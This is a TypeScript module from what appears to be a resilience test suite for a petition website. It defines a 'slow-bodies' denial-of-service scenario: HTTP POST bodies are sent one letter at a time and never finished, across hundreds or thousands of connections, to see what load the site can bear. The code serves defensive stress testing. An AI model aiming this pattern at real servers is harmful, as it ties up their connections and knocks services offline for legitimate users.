import { PETITION } from '../../scale/petition.ts'
import { type Attack, portOf } from '../attack.ts'
import { drip, tellDrip } from '../parts/drip.ts'

const HEAD = [
  `POST ${PETITION.page}/signatures HTTP/1.1`,
  'Host: x',
  'Content-Type: application/x-www-form-urlencoded',
  'Content-Length: 10000',
  '',
  'name=',
].join('\r\n')

export const attack: Attack = {
  name: 'slow-bodies',
  what: 'forms that come letter by letter and never end, each connection that is cut off replaced',
  sizes: { short: 200, long: 9000 },
  sized: (size) => `${size.toLocaleString('en')} connections at a time`,
  bearable: 1000,
  async run(stage, connections) {
    const forMs = stage.isShort ? 4000 : 70_000
    return tellDrip(await drip(portOf(stage), { head: HEAD, letter: 'x', connections, forMs }))
  },
}
